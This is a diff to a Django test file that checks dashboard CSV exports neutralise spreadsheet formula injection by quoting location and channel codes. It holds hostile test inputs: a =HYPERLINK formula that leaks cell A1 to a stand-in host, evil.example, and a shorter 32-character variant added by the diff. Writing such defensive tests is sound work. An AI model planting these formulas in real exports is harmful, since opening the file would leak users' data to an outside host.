@@ -22,6 +22,7 @@ from routing.tests.helpers import make_order
 pytestmark = pytest.mark.django_db
 
 LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+SHORT_LINK = '=HYPERLINK("//e.x","c")'  # fits a location code (32 characters)
 
 
 def rows(content: bytes | str) -> list[list[str]]:
@@ -36,18 +37,18 @@ def client_for(user) -> Client:
 
 
 def test_dashboard_exports_quote_a_location_code_and_keep_figures_numeric(ops_user, history):  # noqa: F811
-    Location.objects.filter(code="DC-EAST").update(code=LINK)
+    Location.objects.filter(code="DC-EAST").update(code=SHORT_LINK)
     Channel.objects.filter(code="web").update(code="+1")
     c = client_for(ops_user)
     locations = rows(c.get(reverse("dashboard:export", args=["locations"]), PERIOD).content)
-    assert ["'" + LINK] in [r[:1] for r in locations]
-    assert LINK not in [r[0] for r in locations]
+    assert ["'" + SHORT_LINK] in [r[:1] for r in locations]
+    assert SHORT_LINK not in [r[0] for r in locations]
     figures = [cell for r in locations[1:] for cell in r[1:] if cell]
     assert figures and all(float(cell) == float(cell) for cell in figures)  # numbers, never quoted text
     channels = rows(c.get(reverse("dashboard:export", args=["channels"]), PERIOD).content)
     assert ["'+1"] in [r[:1] for r in channels]
     drill = rows(c.get(reverse("dashboard:drilldown-csv", args=["order_cycle_time"]), {**PERIOD, "all": "1"}).content)
-    assert any(r[2] == "'" + LINK for r in drill[1:]) or any(r[1] == "'+1" for r in drill[1:])
+    assert any(r[2] == "'" + SHORT_LINK for r in drill[1:]) or any(r[1] == "'+1" for r in drill[1:])
     assert all(not r[4].startswith("'") for r in drill[1:])
 
 
